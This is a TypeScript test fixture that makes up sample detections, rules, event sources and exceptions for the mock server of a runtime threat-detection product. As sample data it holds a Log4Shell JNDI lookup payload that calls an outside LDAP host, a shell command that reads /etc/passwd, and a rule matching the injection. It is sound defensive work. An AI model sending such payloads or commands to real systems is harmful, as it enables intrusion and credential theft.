// Made-up detections, rules, sources, exceptions and profiles for the fake server: one of every kind, with the proof that each kind has.
import type { Detection, DetectionDetail, EventSource, Exception, Level, RuleDetail, RuleReject, SampleEvent } from "../src/api/runtime-shapes.ts";
import type { Release } from "../src/api/shapes.ts";
import { dice } from "./dice.ts";
import { conditionProof, processProof, rateProof } from "./fake-proof.ts";
import { fakeProfiles } from "./fake-profiles.ts";
import type { ProfileDetail, RuntimeOverview } from "../src/api/runtime-shapes.ts";

export interface FakeRuntime { detections: DetectionDetail[]; rules: RuleDetail[]; rejects: RuleReject[]; sources: EventSource[]; exceptions: Exception[]; profiles: ProfileDetail[]; cells: RuntimeOverview["cells"]; nowMs: number }

const minute = 60_000, hour = 60 * minute, day = 24 * hour;
const line = '203.0.113.77 - - [22/Nov/2026:14:02:11 +0000] "GET /search?q=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1" 200 512 "-" "curl/8.9.1"';

export function fakeRuntime(nowMs: number, releases: readonly Release[]): FakeRuntime {
  const { upTo, pick } = dice(77);
  const at = (ago: number): string => new Date(Math.floor((nowMs - ago) / 1000) * 1000).toISOString();
  const release = releases.find(({ service, liveDeployments }) => service === "checkout" && liveDeployments > 0) ?? releases[0];
  const placed: Detection["placement"] = { workload: "prod-eu/shop/checkout", joinedBy: "digest", because: "the image's digest sha256:3f1b… is that of release checkout 2.6.1", serviceId: "svc_1", service: "checkout", owner: "payments", releaseId: release?.id ?? "rel_3", version: release?.version ?? "2.6.1", endpointId: "end_1", endpoint: "prod-eu/checkout", environment: "prod", exposure: "internet", deploymentId: "dep_2_0", deployedAt: at(5 * hour) };
  const nowhere: Detection["placement"] = { workload: "unknown", joinedBy: "nothing", because: "the event names no host, no pod and no service", serviceId: null, service: null, owner: null, releaseId: null, version: null, endpointId: null, endpoint: null, environment: null, exposure: null, deploymentId: null, deployedAt: null };
  const none: Detection["evidence"] = { state: "none", vulnerability: null, component: null, because: "the rule names no vulnerability" };
  const sample = (slot: number, raw: string, fields: object, ago: number): SampleEvent => ({ slot, id: `evt-${slot}`, at: at(ago), decoder: "access-log", logsource: { category: "webserver", product: "linux" }, origin: { host: "node-eu-3", namespace: "shop", pod: "checkout-7f9d8b6c5d-x2x9v", imageDigest: "sha256:3f1b" }, fields, raw });
  const web = { "c-ip": "203.0.113.77", "cs-method": "GET", "cs-uri-stem": "/search", "cs-uri-query": "q=${jndi:ldap://198.51.100.9:1389/a}", "sc-status": 200, "cs-user-agent": "curl/8.9.1", "request-decoded": "/search?q=${jndi:ldap://198.51.100.9:1389/a}" };
  const made = (number: number, title: string, level: Level, ago: number, more: Partial<DetectionDetail>): DetectionDetail => ({
    id: `det_${number}`, kind: "rule", ruleId: `rule-${number}`, title, ruleLevel: level, level, tags: [], decoder: "falco", source: "falco", actor: null, subject: "", placement: placed, evidence: none, firstAt: at(ago + 4 * minute), lastAt: at(ago), detectedAt: at(ago + 4 * minute), count: 1,
    state: "open", exceptionId: null, verdict: null, note: null, judgedBy: null, incident: null, why: { sentences: ["Image ends with /curl: /usr/bin/curl"], proof: { condition: conditionProof, rule: { file: "content/rules/linux/curl.yml", line: 1 } } }, samples: [sample(0, line, web, ago)], components: [], ...more,
  });
  const components = [{ purl: "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", vulnerability: "CVE-2026-10000", outcome: "act", fixVersion: "2.17.1", findingId: "fnd_0001", loaded: true }, { purl: "pkg:npm/path-weaver@1.4.2", vulnerability: "CVE-2026-10037", outcome: "attend", fixVersion: null, findingId: "fnd_0002", loaded: null }, { purl: "pkg:npm/tiny-templater@1.4.2", vulnerability: "CVE-2026-10074", outcome: "track", fixVersion: "2.0.0", findingId: "fnd_0003", loaded: false }];
  const first = [
    made(1, "Lookup injection in a request (Log4Shell)", "critical", 3 * minute, {
      ruleLevel: "high", tags: ["attack.initial-access", "attack.t1190", "cve.2026-10000"], decoder: "access-log", source: "nginx", actor: "203.0.113.77", subject: "/search", count: 14, incident: { id: "inc_31", number: 31 }, components,
      evidence: { state: "confirmed", vulnerability: "CVE-2026-10000", component: "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", because: "checkout 2.6.1 runs log4j-core 2.14.1 (CVE-2026-10000, CVSS 10, in KEV) and the jar is open in the process" },
      why: { sentences: ["request-decoded contains ${jndi:: /search?q=${jndi:ldap://198.51.100.9:1389/a}", "cs-method is GET", "raised: checkout 2.6.1 runs log4j-core 2.14.1 (CVE-2026-10000) and the jar is open in the process"], proof: { condition: conditionProof, rule: { file: "content/rules/web/log4shell.yml", line: 1 } } },
      samples: [sample(0, line, web, 7 * minute), sample(1, line.replace("/search", "/login"), { ...web, "cs-uri-stem": "/login" }, 6 * minute), sample(5, JSON.stringify({ message: "a later one", "c-ip": "203.0.113.77" }), {}, 3 * minute)],
    }),
    made(2, "A shell was started by a web server", "high", 22 * minute, {
      tags: ["attack.execution", "attack.t1059.004"], actor: "www-data", subject: "/bin/sh -c id;uname -a;cat /etc/passwd", incident: { id: "inc_31", number: 31 }, components, why: { sentences: ["ParentImage ends with /nginx", "Image ends with /sh"], proof: { condition: conditionProof, processes: processProof(nowMs) } },
    }),
    made(3, "payments-worker began to run curl", "medium", 2 * hour, {
      kind: "baseline", ruleId: "baseline:process", subject: "/usr/bin/curl", tags: ["attack.t1105"], placement: { ...placed, workload: "prod-eu/shop/invoice-worker" },
      why: { sentences: ["invoice-worker 3.1.0 never ran /usr/bin/curl in 6 days and 412,300 process events.", "11.4 bits of surprise: more than 99.9 % of what came first in 30 days."], proof: { profileId: "prf_2", workload: "prod-eu/shop/invoice-worker", release: "3.1.0", fact: { kind: "process", value: "/usr/bin/curl" }, bits: 11.4, chance: 0.0004, observations: 412_300, facts: 38, novelties: 12, learnedFrom: at(6 * day), learnedUntil: null, quantile: { of: 30, below: 0.999 }, difference: { from: "3.0.2", sentences: ["3.1.0 began to run curl."] } } },
    }),
    made(4, "Unusually many failed logins on identity", "medium", 3 * hour, { kind: "rate", ruleId: "rate:logins-failed", subject: "higher", tags: ["attack.credential-access", "attack.t1110"], placement: { ...placed, workload: "prod-eu/identity", service: "identity", joinedBy: "labels" }, why: { sentences: ["412 failed logins in the 300 s from 11:05: higher than 100 % of Sundays 11:00-12:00 UTC.", "Expected 2 to 31 (98 % of 480 bins), 9 in the middle."], proof: rateProof(nowMs) } }),
    made(5, "Passwords guessed for su or sudo", "medium", 4 * hour, { kind: "correlation", ruleId: "rule-5", subject: "User=deploy", actor: "deploy", count: 3, placement: { ...nowhere, workload: "node-eu-3", because: "node-eu-3 is the name of no endpoint" }, why: { sentences: ["5 events within 5 min, grouped by User=deploy: at least 5 were asked."], proof: { type: "event_count", group: { User: "deploy" }, value: 5, bounds: { gte: 5 }, timespanMs: 300_000 } } }),
    made(6, "Terminal shell in container", "informational", 5 * hour, { kind: "sensor", ruleId: "sensor:falco:Terminal shell in container", ruleLevel: "low", tags: ["attack.execution"], placement: nowhere, actor: "root", subject: "bash", evidence: { ...none, state: "unknown", because: "no deployment is known there" }, why: { sentences: ["falco reported it with the priority Notice: A shell was spawned in a container with an attached terminal"], proof: { sensor: "falco", rule: "Terminal shell in container", priority: "Notice" } }, samples: [] }),
    made(7, "Lookup injection in a request (Log4Shell)", "low", 6 * hour, { ruleId: "rule-1", ruleLevel: "high", tags: ["attack.t1190", "cve.2026-10000"], actor: "203.0.113.77", subject: "/", evidence: { state: "lowered", vulnerability: "CVE-2026-10000", component: null, because: "storefront 4.4.2 was evaluated on 20 November: none of its 311 components is affected" }, placement: { ...placed, workload: "prod-eu/shop/storefront", service: "storefront" } }),
    made(8, "Backup tool reads the password file", "low", 8 * hour, { state: "dismissed", verdict: "benign", note: "The nightly backup; it reads everything.", judgedBy: "ana", subject: "/usr/sbin/restic" }),
    made(9, "A package manager ran in a container", "low", 9 * hour, { state: "excepted", exceptionId: "exc_1", subject: "/usr/bin/apt-get" }),
  ];
  const titles = ["SQL injection in a request", "A file was written below the web root", "An archive was sent to an unknown host", "Service account token was read"];
  const rest = Array.from({ length: 60 }, (_, index) => made(10 + index, titles[index % 4] ?? "", (["low", "medium", "high", "informational"] as const)[index % 4] ?? "low", 10 * hour + index * 14 * minute, { ruleId: `rule-${10 + (index % 4)}`, tags: index % 2 === 0 ? ["attack.t1190"] : ["attack.t1041"], actor: `198.51.100.${index}`, subject: `/${pick(["login", "search", "api/v1/orders", "static/a.php"])}`, count: 1 + upTo(40), placement: { ...placed, workload: `prod-eu/shop/${pick(["storefront", "checkout", "search-indexer"])}` } }));
  const workloads = ["prod-eu/shop/checkout", "prod-eu/shop/storefront", "prod-eu/shop/invoice-worker", "prod-eu/identity", "node-eu-3", "unknown", ...Array.from({ length: 8 }, (_, index) => `stage-us/team-${index + 1}/a-workload-with-a-long-name-${index + 1}`)];
  const worst: Partial<Record<number, Level>> = { 0: "critical", 1: "high", 2: "medium", 3: "medium", 5: "low" };
  const cells = workloads.flatMap((workload, row) => Array.from({ length: 168 }, (_, back): RuntimeOverview["cells"][number] => {
    const events = (row + back) % 9 === 4 ? 0 : Math.round(upTo(4 ** (7 - Math.min(6, row)) + 3));
    const detected = worst[row] !== undefined && (back + row) % 11 === 0;
    return { workload, hour: new Date(Math.floor(nowMs / hour) * hour - back * hour).toISOString(), events, detections: detected ? 1 + upTo(3) : 0, worst: detected ? worst[row] ?? null : null };
  }));
  return { detections: [...first, ...rest], ...fakeRules(at), sources: fakeSources(at), exceptions: fakeExceptions(nowMs), profiles: fakeProfiles(nowMs), cells, nowMs };
}

function fakeRules(at: (ago: number) => string): Pick<FakeRuntime, "rules" | "rejects"> {
  const rule = (number: number, title: string, level: Level, more: Partial<RuleDetail> = {}): RuleDetail => ({
    id: `rule-${number}`, kind: "rule", title, level, status: "stable", description: "A request carries a lookup that old versions of a logging library resolve, fetch and run.", author: "Aftwatch", tags: ["attack.initial-access", "attack.t1190", "cve.2026-10000"], falsePositives: ["A scanner of our own"], references: ["https://example.org/log4shell"],
    logsource: { category: "webserver", product: null, service: null }, file: `content/rules/web/rule-${number}.yml`, line: 1, detections: 12, hits: 144, dismissed: 2, excepted: 1, lastAt: at(3 * minute), text: `title: ${title}\nid: rule-${number}\nlogsource:\n    category: webserver\ndetection:\n    lookup:\n        request-decoded|contains: '\${jndi:'\n    condition: lookup\nlevel: ${level}\n`, ...more,
  });
  return {
    rules: [rule(1, "Lookup injection in a request (Log4Shell)", "high"), rule(2, "A shell was started by a web server", "high", { logsource: { category: "process_creation", product: "linux", service: null }, dismissed: 9 }), rule(5, "Passwords guessed for su or sudo", "medium", { kind: "correlation", logsource: { category: null, product: null, service: null } }),
      ...Array.from({ length: 40 }, (_, index) => rule(10 + index, `Rule about the behaviour number ${index + 1} of a Linux process`, "low", { detections: 0, hits: 0, dismissed: 0, excepted: 0, lastAt: null, status: index % 2 === 0 ? "test" : null }))],
    rejects: [{ file: "rules/ours/broken.yml", line: 14, title: "A rule with an unknown modifier", rule: "the modifier containz is not known; did you mean contains?" }, { file: "rules/ours/old.yml", line: 3, title: null, rule: "the condition uses the obsolete aggregation | count(): write a correlation" }],
  };
}

function fakeSources(at: (ago: number) => string): EventSource[] {
  const source = (id: string, decoder: string, more: Partial<EventSource> = {}): EventSource => ({ id, decoder, name: id, state: "live", firstAt: at(40 * day), lastAt: at(4000), staleSince: null, staleAfterMs: 15 * minute, events: 1_204_331, rejected: 0, detections: 14, lastReject: null, canary: "ok", canarySentAt: at(3 * minute), canarySeenAt: at(3 * minute), canaryMs: 41, ...more });
  return [source("nginx", "access-log"), source("falco", "falco", { canaryMs: 77 }), source("cluster prod-eu", "k8s-audit", { state: "stale", lastAt: at(2 * hour), staleSince: at(90 * minute), canary: "missing", canarySentAt: at(4 * minute), canarySeenAt: at(2 * hour) }), source("otel-collector", "otlp-logs", { rejected: 12, lastReject: "resourceLogs/0/scopeLogs/3: timeUnixNano is no number" }), source("host-17 /var/log/audit/audit.log", "auditd", { canary: "never", canarySentAt: null, canarySeenAt: null, canaryMs: null, detections: 0 })];
}

export const exceptionText = "title: apt in the build pods\n# the narrowest filter that covers 2 detections\nlogsource:\n    category: process_creation\nfilter:\n    rules:\n        - rule-9\n    build:\n        Image: /usr/bin/apt-get\n        aftwatch.workload: prod-eu/build\n    condition: not build\n";

function fakeExceptions(nowMs: number): Exception[] {
  const at = (ms: number): string => new Date(nowMs + ms).toISOString();
  const exception = (id: string, title: string, more: Partial<Exception> = {}): Exception => ({ id, title, text: exceptionText, owner: "platform", reason: "The build pods install packages; they have no way in.", createdBy: "ana", createdAt: at(-20 * day), expiresAt: at(40 * day), revokedAt: null, revokedBy: null, state: "in-force", hits: 431, lastHitAt: at(-2 * hour), forced: null, idle: false, ...more });
  return [exception("exc_1", "apt in the build pods"), exception("exc_2", "The scanner of our own", { forced: "The scanner sends what attackers send; its address is fixed.", expiresAt: at(2 * day) }), exception("exc_3", "An old backup tool", { createdAt: at(-200 * day), lastHitAt: at(-120 * day), hits: 3, idle: true }), exception("exc_4", "A drill", { state: "revoked", revokedAt: at(-5 * day), revokedBy: "lee" }), exception("exc_5", "The migration of October", { state: "expired", expiresAt: at(-12 * day) })];
}
